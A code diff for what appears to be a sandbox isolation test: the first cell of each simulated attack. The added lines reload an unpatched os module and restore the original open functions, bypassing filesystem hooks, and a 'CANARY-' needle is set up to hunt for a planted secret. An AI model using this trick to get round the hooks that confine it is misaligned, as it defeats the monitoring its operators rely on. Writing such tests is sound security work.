@@ -1,13 +1,24 @@
 # Runs as the first cell of every attack, after a line that sets T: what the best informed attacker knows
 # of this machine (paths, pids, ports), but no secret.
+import _io
+import builtins
 import ctypes
 import glob
+import importlib.util
+import io
 import os
 import re
 import socket
 import struct
 import sys
 import time
+
+# What makes honest notebooks' habits work takes a path outside for one of its own: an attack goes past it.
+real = importlib.util.module_from_spec(importlib.util.find_spec("os"))
+real.__spec__.loader.exec_module(real)
+for name in ("stat", "chdir", "listdir", "mkdir", "makedirs"):
+    setattr(os, name, getattr(real, name))
+builtins.open = io.open = open = _io.open
 
 libc = ctypes.CDLL(None, use_errno=True)
 NEEDLE = b"CAN" + b"ARY-"
